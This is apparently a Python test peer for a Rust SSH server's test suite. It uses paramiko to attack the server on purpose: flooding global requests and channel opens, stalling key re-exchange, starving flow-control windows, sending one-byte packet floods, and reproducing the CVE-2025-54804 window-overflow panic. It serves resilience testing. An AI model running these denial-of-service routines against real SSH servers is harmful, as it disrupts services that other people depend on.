"""An attacking SSH peer for tests/tests/russh_surface.rs: paramiko (an SSH implementation
independent of russh and OpenSSH) driven past what a well-behaved client does.

It logs in with an Ed25519 key and then floods global requests, opens channels without waiting
for each reply, starts a key re-exchange and never finishes it, or pushes data the way that
defeats memory caps (tunnels whose return windows it never reopens; one-byte packets). It prints one JSON object per
line on stdout (what it did and what the server answered) and reads commands on stdin in the
interactive `channels` mode. Every wait is bounded; the Rust test kills it when it ends.

Usage: russh_peer.py HOST PORT KEY MODE [options]   (see `main` for the modes)
"""

import argparse
import json
import os
import socket
import sys
import threading
import time

import logging

import paramiko
from paramiko.channel import Channel
from paramiko.common import (
    cMSG_CHANNEL_OPEN,
    cMSG_CHANNEL_WINDOW_ADJUST,
    cMSG_GLOBAL_REQUEST,
    cMSG_IGNORE,
    MSG_REQUEST_FAILURE,
    MSG_REQUEST_SUCCESS,
)
from paramiko.message import Message

WINDOW = 2 * 1024 * 1024
MAX_PACKET = 32768


def emit(event, **fields):
    fields["event"] = event
    sys.stdout.write(json.dumps(fields) + "\n")
    sys.stdout.flush()


def connect(host, port, key_path, user="tunnel"):
    """A logged-in paramiko Transport (public key only, nothing else tried)."""
    sock = socket.create_connection((host, port), timeout=20)
    transport = paramiko.Transport(sock)
    transport.banner_timeout = 20
    transport.auth_timeout = 20
    transport.start_client(timeout=20)
    key = paramiko.Ed25519Key.from_private_key_file(key_path)
    transport.auth_publickey(user, key)
    if not transport.is_authenticated():
        raise SystemExit("authentication failed")
    return transport


class ReplyCounter:
    """Counts REQUEST_SUCCESS / REQUEST_FAILURE replies to global requests (paramiko's own
    handlers expect one outstanding request at a time, so they are replaced)."""

    def __init__(self, transport):
        self.lock = threading.Lock()
        self.success = 0
        self.failure = 0
        self.changed = threading.Condition(self.lock)
        table = transport._handler_table

        def on_success(_m):
            with self.lock:
                self.success += 1
                self.changed.notify_all()

        def on_failure(_m):
            with self.lock:
                self.failure += 1
                self.changed.notify_all()

        table[MSG_REQUEST_SUCCESS] = on_success
        table[MSG_REQUEST_FAILURE] = on_failure

    def total(self):
        with self.lock:
            return self.success + self.failure

    def wait_for(self, count, timeout):
        deadline = time.monotonic() + timeout
        with self.lock:
            while self.success + self.failure < count:
                left = deadline - time.monotonic()
                if left <= 0:
                    break
                self.changed.wait(left)
            return self.success + self.failure


def global_flood(transport, args):
    """Sends `count` global requests with want-reply set, without waiting for replies, half of
    them an unknown name and half `tcpip-forward` (which the bastion refuses)."""
    counter = ReplyCounter(transport)
    emit("ready")
    started = time.monotonic()
    for i in range(args.count):
        m = Message()
        m.add_byte(cMSG_GLOBAL_REQUEST)
        if i % 2 == 0:
            m.add_string("no-such-request-%d@example.com" % i)
            m.add_boolean(True)
        else:
            m.add_string("tcpip-forward")
            m.add_boolean(True)
            m.add_string("127.0.0.1")
            m.add_int(0)
        transport._send_user_message(m)
        if i == min(1000, args.count - 1):
            emit("flooding", sent=i + 1)
    sent_seconds = time.monotonic() - started
    answered = counter.wait_for(args.count, args.reply_timeout)
    emit(
        "done",
        sent=args.count,
        answered=answered,
        success=counter.success,
        failure=counter.failure,
        send_seconds=round(sent_seconds, 3),
        seconds=round(time.monotonic() - started, 3),
        active=transport.is_active(),
    )


def open_nowait(transport, kind, dest, max_packet):
    """Sends CHANNEL_OPEN without waiting for the reply (paramiko's own open_channel waits for
    each one). Returns the channel and the event paramiko sets when the reply arrives."""
    with transport.lock:
        chanid = transport._next_channel()
        m = Message()
        m.add_byte(cMSG_CHANNEL_OPEN)
        m.add_string(kind)
        m.add_int(chanid)
        m.add_int(WINDOW)
        m.add_int(max_packet)
        if kind == "direct-tcpip":
            host, port = dest.rsplit(":", 1)
            host = host.replace("{n}", str(chanid))
            m.add_string(host)
            m.add_int(int(port))
            m.add_string("127.0.0.1")
            m.add_int(40000)
        chan = Channel(chanid)
        transport._channels.put(chanid, chan)
        event = threading.Event()
        transport.channel_events[chanid] = event
        transport.channels_seen[chanid] = True
        chan._set_transport(transport)
        chan._set_window(WINDOW, max_packet)
    transport._send_user_message(m)
    return chan, event


def open_burst(transport, kind, dest, count, timeout, max_packet=MAX_PACKET):
    """Opens `count` channels back to back; waits (bounded) for every reply. Returns the
    accepted channels, the number refused and the number unanswered."""
    started = time.monotonic()
    pending = []
    for i in range(count):
        this_kind = kind
        if kind == "mixed":
            this_kind = "session" if i % 2 == 0 else "direct-tcpip"
        chan, event = open_nowait(transport, this_kind, dest, max_packet)
        chan._peer_kind = this_kind
        pending.append((chan, event))
    send_seconds = time.monotonic() - started
    deadline = started + timeout
    accepted, refused, unanswered = [], 0, 0
    for chan, event in pending:
        if not event.wait(max(0.0, deadline - time.monotonic())):
            unanswered += 1
        elif chan.active:
            accepted.append(chan)
        else:
            refused += 1
    return accepted, refused, unanswered, send_seconds, time.monotonic() - started


def echo_through(chan, payload):
    """Sends `payload` through a tunnel to the echo destination: does it come back (10 s)?"""
    try:
        chan.settimeout(10)
        chan.sendall(payload)
        got = b""
        while len(got) < len(payload):
            part = chan.recv(len(payload) - len(got))
            if not part:
                break
            got += part
        return got == payload
    except Exception:  # noqa: BLE001 - any failure means no echo
        return False


def channels(transport, args):
    """Interactive: one command per stdin line, one JSON reply per command.
      open KIND COUNT [MAX_PACKET]  open COUNT channels at once (session, direct-tcpip, mixed);
                                    `{n}` in --dest's host becomes each channel's number
      close N                       close N of the open channels, wait for the server's CLOSE
      echo                          a round trip through the first open direct-tcpip channel
      adjust                        two window adjusts of 2^32-1 on the first tunnel
      status                        how many channels are open, is the connection alive
      quit"""
    held = []
    emit("ready")
    for line in sys.stdin:
        words = line.split()
        if not words:
            continue
        cmd = words[0]
        if cmd == "open":
            kind, count = words[1], int(words[2])
            max_packet = int(words[3]) if len(words) > 3 else MAX_PACKET
            accepted, refused, unanswered, send_s, total_s = open_burst(
                transport, kind, args.dest, count, args.reply_timeout, max_packet
            )
            held.extend(accepted)
            emit(
                "opened",
                accepted=len(accepted),
                refused=refused,
                unanswered=unanswered,
                send_seconds=round(send_s, 3),
                seconds=round(total_s, 3),
                held=len(held),
                active=transport.is_active(),
            )
        elif cmd == "close":
            n = int(words[1])
            closing, held = held[:n], held[n:]
            for chan in closing:
                chan.close()
            deadline = time.monotonic() + args.reply_timeout
            while time.monotonic() < deadline and any(not c.closed for c in closing):
                time.sleep(0.01)
            # The server's CLOSE arrives after it has processed ours.
            time.sleep(0.2)
            emit("closed", closed=len(closing), held=len(held))
        elif cmd == "echo":
            tunnels = [c for c in held if c._peer_kind == "direct-tcpip"]
            emit("echoed", ok=bool(tunnels) and echo_through(tunnels[0], b"ping\n"))
        elif cmd == "adjust":
            # CVE-2025-54804: two window adjusts of 2^32-1 overflowed russh's window (a panic).
            tunnels = [c for c in held if c._peer_kind == "direct-tcpip"]
            for _ in range(2):
                m = Message()
                m.add_byte(cMSG_CHANNEL_WINDOW_ADJUST)
                m.add_int(tunnels[0].remote_chanid)
                m.add_int(0xFFFFFFFF)
                transport._send_user_message(m)
            time.sleep(0.5)
            emit("adjusted", active=transport.is_active())
        elif cmd == "status":
            emit("status", held=len(held), active=transport.is_active())
        elif cmd == "quit":
            break
    emit("bye")


def stall_rekey(transport, args):
    """Opens a tunnel to the echo destination, checks it, then sends KEXINIT and never sends
    the key exchange's next message. With --trickle S it sends SSH_MSG_IGNORE every S seconds
    meanwhile (allowed during a key exchange); with --flood-opens N, N channel opens (not
    allowed). Reports when the server closes the connection."""
    chan = transport.open_channel(
        "direct-tcpip", (args.dest.rsplit(":", 1)[0], int(args.dest.rsplit(":", 1)[1])),
        ("127.0.0.1", 40000), timeout=20,
    )
    emit("tunnel", ok=echo_through(chan, b"before\n"))

    # Let paramiko send its KEXINIT, then swallow the server's KEXINIT so that paramiko never
    # sends KEX_ECDH_INIT: the exchange stays half done for good.
    table = transport._handler_table
    swallowed = threading.Event()

    def swallow_server_kexinit(_m):
        swallowed.set()

    from paramiko.common import MSG_KEXINIT

    table[MSG_KEXINIT] = swallow_server_kexinit
    transport._send_kex_init()
    started = time.monotonic()
    emit("stalled", server_kexinit=swallowed.wait(10))
    flooded = flood_opens(transport, args) if args.flood_opens > 0 else {"sent": 0}
    next_ignore = started + args.trickle if args.trickle > 0 else None
    ignores = 0
    while time.monotonic() - started < args.hold:
        if not transport.is_active():
            break
        now = time.monotonic()
        if next_ignore is not None and now >= next_ignore:
            m = Message()
            m.add_byte(cMSG_IGNORE)
            m.add_string("still here")
            try:
                # Straight to the packetizer: paramiko holds user messages during a kex.
                transport.packetizer.send_message(m)
                ignores += 1
            except Exception:  # noqa: BLE001 - the server closed the socket
                break
            next_ignore = now + args.trickle
        time.sleep(0.05)
    elapsed = time.monotonic() - started
    emit(
        "result",
        closed=not transport.is_active(),
        seconds=round(elapsed, 2),
        ignores=ignores,
        opens_sent=flooded["sent"],
    )
    if args.flood_opens > 0:
        # The flood thread may be blocked in a socket write: leave without a clean close.
        sys.stdout.flush()
        os._exit(0)


def flood_opens(transport, args):
    """From a thread, sends --flood-opens CHANNEL_OPEN (direct-tcpip to --dest) straight to the
    packetizer, in the middle of the stalled key exchange (RFC 4253 7.1: a server must not act
    on them). Returns a dict whose "sent" counts those written."""
    flooded = {"sent": 0}
    host, port = args.dest.rsplit(":", 1)

    def flood():
        for i in range(args.flood_opens):
            m = Message()
            m.add_byte(cMSG_CHANNEL_OPEN)
            m.add_string("direct-tcpip")
            m.add_int(1000 + i)
            m.add_int(WINDOW)
            m.add_int(MAX_PACKET)
            m.add_string(host)
            m.add_int(int(port))
            m.add_string("127.0.0.1")
            m.add_int(40000)
            try:
                transport.packetizer.send_message(m)
            except Exception:  # noqa: BLE001 - the server closed the connection
                break
            flooded["sent"] += 1

    threading.Thread(target=flood, daemon=True).start()
    return flooded


def open_tunnel(transport, dest):
    host, port = dest.rsplit(":", 1)
    return transport.open_channel(
        "direct-tcpip", (host, int(port)), ("127.0.0.1", 40000), timeout=20
    )


def push_until_stuck(transport, chans, chunks, args):
    """Sends `chunks` (a list of byte strings, cycled over `chans`) from a thread, as fast as
    the server takes them, until --hold seconds pass, all are sent, or nothing was taken for
    5 s. A server that stops reading blocks paramiko's socket write for good, so the thread is
    abandoned then: the caller reports and exits. Returns (bytes sent, packets sent, seconds,
    stuck)."""
    progress = {"bytes": 0, "packets": 0, "done": False}

    def sender():
        try:
            for i, chunk in enumerate(chunks):
                chan = chans[i % len(chans)]
                if chan.closed or not transport.is_active():
                    break
                n = chan.send(chunk)
                if n <= 0:
                    break
                progress["bytes"] += n
                progress["packets"] += 1
        except Exception:  # noqa: BLE001 - the server closed a tunnel or the connection
            pass
        progress["done"] = True

    threading.Thread(target=sender, daemon=True).start()
    started = time.monotonic()
    seen, last_progress = -1, started
    while time.monotonic() - started < args.hold and not progress["done"]:
        time.sleep(0.1)
        now = time.monotonic()
        if progress["bytes"] != seen:
            seen, last_progress = progress["bytes"], now
        elif now - last_progress > 5:
            break
    stuck = not progress["done"]
    return progress["bytes"], progress["packets"], round(time.monotonic() - started, 2), stuck


def starve(transport, args):
    """Opens --count tunnels to a destination that floods replies and reads nothing, never
    reads a reply (so their return windows never reopen and the server's return writes wait
    for window for good), and sends 32 KiB packets round-robin on every tunnel as fast as the
    server takes them. Reports the bytes sent; exits without a clean close (the server may
    have stopped reading)."""
    chans = [open_tunnel(transport, args.dest) for _ in range(args.count)]
    chunks = [b"s" * 32768] * (64 * 1024)  # at most 2 GiB
    sent, _, seconds, stuck = push_until_stuck(transport, chans, chunks, args)
    emit(
        "result",
        sent=sent,
        seconds=seconds,
        stuck=stuck,
        open=sum(1 for c in chans if not c.closed),
        active=transport.is_active(),
    )
    sys.stdout.flush()
    os._exit(0)


def tiny(transport, args):
    """Opens one tunnel to a destination that reads nothing, fills the kernel's socket buffers
    and part of the server's queue with --prefill MiB in 32 KiB packets, then sends --count
    one-byte packets as fast as the server takes them. Reports how many one-byte packets were
    sent and whether the server closed the tunnel (it waits up to 5 s for the close)."""
    chan = open_tunnel(transport, args.dest)
    big = [b"p" * 32768] * (args.prefill * 32)
    _, _, _, stuck = push_until_stuck(transport, [chan], big, args)
    sent, seconds = 0, 0.0
    if not stuck and not chan.closed:
        _, sent, seconds, stuck = push_until_stuck(transport, [chan], [b"t"] * args.count, args)
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and not chan.closed and not stuck:
        time.sleep(0.05)
    emit(
        "result",
        sent=sent,
        seconds=seconds,
        stuck=stuck,
        closed=bool(chan.closed),
        active=transport.is_active(),
    )
    sys.stdout.flush()
    os._exit(0)


def main():
    # paramiko logs refused channels at ERROR level on stderr; the JSON on stdout says it all.
    logging.getLogger("paramiko").setLevel(logging.CRITICAL)
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("key")
    parser.add_argument("mode", choices=["global-flood", "channels", "stall-rekey", "starve", "tiny"])
    parser.add_argument("--count", type=int, default=50000)
    parser.add_argument("--dest", default="")
    parser.add_argument("--reply-timeout", type=float, default=60.0)
    parser.add_argument("--trickle", type=float, default=0.0)
    parser.add_argument("--flood-opens", type=int, default=0)
    parser.add_argument("--hold", type=float, default=30.0)
    parser.add_argument("--prefill", type=int, default=16, help="MiB sent before the one-byte packets")
    args = parser.parse_args()
    transport = connect(args.host, args.port, args.key)
    try:
        {
            "global-flood": global_flood,
            "channels": channels,
            "stall-rekey": stall_rekey,
            "starve": starve,
            "tiny": tiny,
        }[args.mode](transport, args)
    finally:
        transport.close()


if __name__ == "__main__":
    main()
